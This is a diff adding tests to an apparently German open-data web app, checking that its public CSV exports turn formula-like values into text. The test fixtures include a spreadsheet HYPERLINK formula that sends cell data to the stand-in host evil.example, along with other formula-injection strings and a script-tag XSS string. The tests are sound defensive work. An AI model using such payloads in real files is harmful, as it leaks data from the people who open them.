@@ -97,3 +97,48 @@ def test_open_data_page_lists_every_endpoint_and_the_licence(client):
 def test_open_data_page_in_english(client):
     response = client.get("/en/offene-daten/")
     assert response.status_code == 200
+
+
+# --- spreadsheet formulas ------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"L")'
+
+
+def test_formulas_in_a_city_or_contact_arrive_as_text_in_the_public_csv(client):
+    ActorFactory(
+        slug="weltladen",
+        city=HYPERLINK,
+        contact_person="@SUM(1+1)",
+        phone="+49 7141 910-0",
+        teaser="-1+1",
+        contact_public=True,
+        latitude="-33.918861",
+        longitude="18.423300",
+    )
+
+    (row,) = csv_rows(download(client, "akteure", "csv"))
+
+    assert row["city"] == "'" + HYPERLINK
+    assert row["contact_person"] == "'@SUM(1+1)"
+    assert row["phone"] == "'+49 7141 910-0"
+    assert row["teaser"] == "'-1+1"
+    # Numbers stay numbers, also negative ones.
+    assert row["latitude"] == "-33.918861"
+
+
+def test_formula_in_an_event_title_arrives_as_text_in_the_public_csv(client):
+    EventFactory(slug="fest", title="=1+1", location="\tMarktplatz", organiser="\rVerein")
+    (row,) = csv_rows(download(client, "veranstaltungen", "csv"))
+    assert (row["title"], row["location"], row["organiser"]) == (
+        "'=1+1",
+        "'\tMarktplatz",
+        "'\rVerein",
+    )
+
+
+def test_line_breaks_and_script_tags_in_a_title_survive_the_csv_as_text(client):
+    title = "Erste Zeile\nzweite\r\n</script><script>alert(1)</script>"
+    EventFactory(slug="fest", title=title)
+    response = download(client, "veranstaltungen", "csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    assert [row["title"] for row in rows] == [title]
